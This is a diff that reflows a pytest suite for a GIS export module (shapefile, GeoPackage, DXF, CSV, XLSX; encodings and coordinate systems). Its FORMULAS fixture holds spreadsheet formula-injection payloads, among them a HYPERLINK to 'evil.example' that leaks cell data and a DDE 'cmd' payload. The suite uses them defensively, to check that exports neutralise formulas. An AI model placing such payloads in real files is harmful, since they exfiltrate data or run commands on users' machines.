@@ -44,8 +44,15 @@ from gis.crs import gcj02_to_wgs84
 from ingest import readers as imp
 
 META = ExportMeta(title="测试导出", exported="2026-11-26")
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
-            "\t=1", "\r=1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
 
 
 @pytest.fixture
@@ -114,8 +121,15 @@ def test_booleans_stay_booleans(hostile, tmp_path):
     with sqlite3.connect(gp) as con:
         assert dict((r[1], r[2]) for r in con.execute("PRAGMA table_info(p)"))["flag"] == "BOOLEAN"
     con.close()
-    assert [f["properties"]["flag"] for f in json.loads(geojson_bytes(layer))["features"]] == \
-        [True, False, None, True, True, False, None]
+    assert [f["properties"]["flag"] for f in json.loads(geojson_bytes(layer))["features"]] == [
+        True,
+        False,
+        None,
+        True,
+        True,
+        False,
+        None,
+    ]
     shp = _read(shapefile_zip_bytes(layer, name="p"), ".shp.zip", tmp_path)
     info = pyogrio.read_info(tmp_path / "f.shp.zip")
     assert dict(zip(info["fields"], info["ogr_subtypes"]))["flag"] == "OFSTBoolean"
@@ -135,8 +149,15 @@ def test_zipped_shapefile_encodings_prj_cpg_and_field_names(layer, encoding, tmp
     raw = shapefile_zip_bytes(layer, name="subparks", target="cgcs2000_gk120", encoding=encoding, meta=META)
     with zipfile.ZipFile(io.BytesIO(raw)) as zf:
         names = set(zf.namelist())
-        assert {"subparks.shp", "subparks.shx", "subparks.dbf", "subparks.prj", "subparks.cpg",
-                "fields.csv", "metadata.txt"} <= names
+        assert {
+            "subparks.shp",
+            "subparks.shx",
+            "subparks.dbf",
+            "subparks.prj",
+            "subparks.cpg",
+            "fields.csv",
+            "metadata.txt",
+        } <= names
         assert zf.read("subparks.cpg").decode().strip() == encoding
         rows = list(csv.DictReader(io.StringIO(zf.read("fields.csv").decode("utf-8-sig"))))
     mapping = {r["full_name"]: r["shapefile_field"] for r in rows}
@@ -162,8 +183,17 @@ def test_gbk_keeps_a_stand_in_for_what_it_cannot_hold(layer, tmp_path):
 
 
 def test_shapefile_field_names_are_cut_by_bytes_readable_and_unique():
-    cols = ["declared_area_km2", "declared_area_m2", "name_zh", "名称", "x" * 30, "规划用途说明", "规划用地面积",
-            "用地 性质（现状）", "2024年人口"]
+    cols = [
+        "declared_area_km2",
+        "declared_area_m2",
+        "name_zh",
+        "名称",
+        "x" * 30,
+        "规划用途说明",
+        "规划用地面积",
+        "用地 性质（现状）",
+        "2024年人口",
+    ]
     for encoding, limit_bytes in (("UTF-8", 10), ("GBK", 10)):
         m = shapefile_field_names(cols, encoding=encoding)
         values = list(m.values())
@@ -182,8 +212,11 @@ def test_shapefile_field_names_are_cut_by_bytes_readable_and_unique():
 
 @pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
 def test_full_field_names_survive_a_round_trip_through_fields_csv(encoding):
-    gdf = gpd.GeoDataFrame({"规划用途说明": ["研发"], "规划用地面积": [1.5], "intended_use_long_name": ["x"]},
-                           geometry=[shapely.box(121.39, 31.25, 121.395, 31.255)], crs="EPSG:4326")
+    gdf = gpd.GeoDataFrame(
+        {"规划用途说明": ["研发"], "规划用地面积": [1.5], "intended_use_long_name": ["x"]},
+        geometry=[shapely.box(121.39, 31.25, 121.395, 31.255)],
+        crs="EPSG:4326",
+    )
     raw = shapefile_zip_bytes(gdf, name="地块", encoding=encoding)
     back = imp.read_upload("地块.shp.zip", raw)
     assert back.columns == ["规划用途说明", "规划用地面积", "intended_use_long_name"]
@@ -192,8 +225,9 @@ def test_full_field_names_survive_a_round_trip_through_fields_csv(encoding):
 
 
 def test_several_shapefiles_are_one_flat_zip_the_importer_reads(data):
-    raw, name, mime = export_layers({"subparks": data.subparks, "stations": data.stations}, fmt="shp",
-                                    target="wgs84", meta=META)
+    raw, name, mime = export_layers(
+        {"subparks": data.subparks, "stations": data.stations}, fmt="shp", target="wgs84", meta=META
+    )
     assert name.endswith(".shp.zip") and mime == "application/zip"
     with zipfile.ZipFile(io.BytesIO(raw)) as zf:
         names = zf.namelist()
@@ -226,7 +260,8 @@ def test_gcj02_exports_are_unmistakable(layer, tmp_path):
     with sqlite3.connect(gp) as con:
         srs_name, srs_id, org = con.execute(
             "SELECT s.srs_name, s.srs_id, s.organization FROM gpkg_geometry_columns g JOIN gpkg_spatial_ref_sys s "
-            "ON s.srs_id = g.srs_id WHERE g.table_name = 'subparks'").fetchone()
+            "ON s.srs_id = g.srs_id WHERE g.table_name = 'subparks'"
+        ).fetchone()
         crs_line = con.execute("SELECT value FROM export_metadata WHERE key = 'crs'").fetchone()[0]
     con.close()
     assert srs_name == GCJ02_NAME and srs_id != 4326 and org != "EPSG"
@@ -250,8 +285,11 @@ def test_gcj02_exports_are_unmistakable(layer, tmp_path):
 
 
 def test_dxf_declares_its_real_code_page_and_a_chinese_font(data, tmp_path):
-    raw = dxf_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META,
-                    layer_names={"subparks": "子园", "stations": "地铁站"})
+    raw = dxf_bytes(
+        {"subparks": data.subparks, "stations": data.stations},
+        meta=META,
+        layer_names={"subparks": "子园", "stations": "地铁站"},
+    )
     text = raw.decode("gbk")
     assert re.search(r"\$ACADVER\s+1\s+AC1018", text) and re.search(r"\$DWGCODEPAGE\s+3\s+ANSI_936", text)
     assert "桃浦智创城".encode("gbk") in raw  # the bytes are GBK, as declared
@@ -275,8 +313,9 @@ def test_dxf_declares_its_real_code_page_and_a_chinese_font(data, tmp_path):
 
 
 def test_dxf_text_is_one_line_and_survives_odd_characters(tmp_path):
-    gdf = gpd.GeoDataFrame({"name_zh": ["第一行\n第二行", "emoji 😀", "∑ é"]},
-                           geometry=[shapely.Point(121.39, 31.25)] * 3, crs="EPSG:4326")
+    gdf = gpd.GeoDataFrame(
+        {"name_zh": ["第一行\n第二行", "emoji 😀", "∑ é"]}, geometry=[shapely.Point(121.39, 31.25)] * 3, crs="EPSG:4326"
+    )
     path = tmp_path / "o.dxf"
     path.write_bytes(dxf_bytes({"p": gdf}))
     texts = [e.dxf.text for e in ezdxf.readfile(path).modelspace().query("TEXT")]
@@ -301,8 +340,9 @@ def test_csv_round_trip(layer, geometry, tmp_path):
 
 
 def test_export_layers_bundles_and_errors(data):
-    raw, name, mime = export_layers({"subparks": data.subparks, "stations": data.stations}, fmt="geojson",
-                                    target="wgs84", meta=META)
+    raw, name, mime = export_layers(
+        {"subparks": data.subparks, "stations": data.stations}, fmt="geojson", target="wgs84", meta=META
+    )
     assert name == "putuo_subparks_stations_wgs84.zip" and mime == "application/zip"
     with zipfile.ZipFile(io.BytesIO(raw)) as zf:
         assert sorted(zf.namelist()) == ["stations.geojson", "subparks.geojson"]
@@ -329,8 +369,12 @@ def _csv_cells(raw: bytes) -> list[str]:
 def _assert_no_formula_csv(raw: bytes) -> None:
     cells = _csv_cells(raw)
     assert cells
-    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or
-           (c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))]
+    bad = [
+        c
+        for c in cells
+        if c.startswith(("=", "+", "@", "\t", "\r"))
+        or (c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", c))
+    ]
     assert not bad, bad
 
 
@@ -361,7 +405,7 @@ def test_no_export_path_writes_a_formula(hostile, tmp_path):
     with zipfile.ZipFile(io.BytesIO(raw)) as zf:
         for name in zf.namelist():
             _assert_no_formula_csv(zf.read(name))
-    renamed = hostile.rename(columns={"name_zh": "=HYPERLINK(\"x\")"})
+    renamed = hostile.rename(columns={"name_zh": '=HYPERLINK("x")'})
     with zipfile.ZipFile(io.BytesIO(shapefiles_zip_bytes({"p": renamed}))) as zf:
         _assert_no_formula_csv(zf.read("fields.csv"))
 
@@ -395,8 +439,9 @@ def test_a_geometry_collection_a_repair_left_is_written_as_its_polygons(fmt, tmp
     """A self-crossing polygon repaired into polygons plus a stray line: every format writes its polygonal part."""
     from export.formats import export_layers
 
-    collection = shapely.GeometryCollection([shapely.box(121.40, 31.20, 121.41, 31.21),
-                                             shapely.LineString([(121.40, 31.20), (121.42, 31.22)])])
+    collection = shapely.GeometryCollection(
+        [shapely.box(121.40, 31.20, 121.41, 31.21), shapely.LineString([(121.40, 31.20), (121.42, 31.22)])]
+    )
     gdf = gpd.GeoDataFrame({"id": ["R1"], "name_zh": ["修复后的地块"]}, geometry=[collection], crs=4326)
     data, name, _ = export_layers({"parcels": gdf}, fmt=fmt, target="wgs84", meta=META)
     path = tmp_path / name
@@ -411,8 +456,13 @@ def test_dxf_carries_attributes_extent_visible_points_and_its_crs(data, tmp_path
     """What a CAD user needs without a GIS: every attribute (XDATA), the drawing opening on the data, stations
     that show, the coordinate system said in the header, a TrueType Chinese style beside the SHX one."""
     path = tmp_path / "cad.dxf"
-    path.write_bytes(dxf_bytes({"subparks": data.subparks, "stations": data.stations}, meta=META,
-                               layer_names={"subparks": "子园", "stations": "地铁站"}))
+    path.write_bytes(
+        dxf_bytes(
+            {"subparks": data.subparks, "stations": data.stations},
+            meta=META,
+            layer_names={"subparks": "子园", "stations": "地铁站"},
+        )
+    )
     doc = ezdxf.readfile(path)
     msp = doc.modelspace()
     first = next(e for e in msp.query("LWPOLYLINE[layer=='子园']"))
@@ -442,6 +492,8 @@ def test_xlsx_of_a_text_only_layer_opens_in_gdal_with_its_header_and_readable_wi
     assert "name_zh" in back.columns and not any(c.startswith("Field") for c in back.columns)
     assert len(back) == len(data.roads)
     sheet = openpyxl.load_workbook(path).active
-    widths = {sheet.cell(1, k).value: sheet.column_dimensions[openpyxl.utils.get_column_letter(k)].width
-              for k in range(1, sheet.max_column + 1)}
+    widths = {
+        sheet.cell(1, k).value: sheet.column_dimensions[openpyxl.utils.get_column_letter(k)].width
+        for k in range(1, sheet.max_column + 1)
+    }
     assert widths["name_zh"] >= 2 * max(len(n) for n in data.roads["name_zh"]) and widths["wkt"] == 60
